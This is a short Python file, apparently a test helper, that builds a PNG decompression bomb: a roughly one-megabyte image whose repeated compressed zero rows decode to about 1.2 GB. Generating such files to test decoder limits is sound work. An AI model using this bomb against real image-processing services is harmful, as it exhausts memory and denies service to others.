"""A small file that would decode to more than a gigabyte."""

import struct
import zlib


def make_bomb():
    """Returns a PNG of one megabyte with 20,000 x 20,000 pixels, which are 1.2 GB when decoded."""

    def chunk(kind, data):
        checksum = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)

    header = struct.pack(">IIBBBBB", 20_000, 20_000, 8, 2, 0, 0, 0)
    packer = zlib.compressobj(9)
    rows = packer.compress(bytes(100 * (1 + 3 * 20_000))) + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush, equal rows are encoded as equal bytes.
    data = rows + rows[2:] * 199
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )
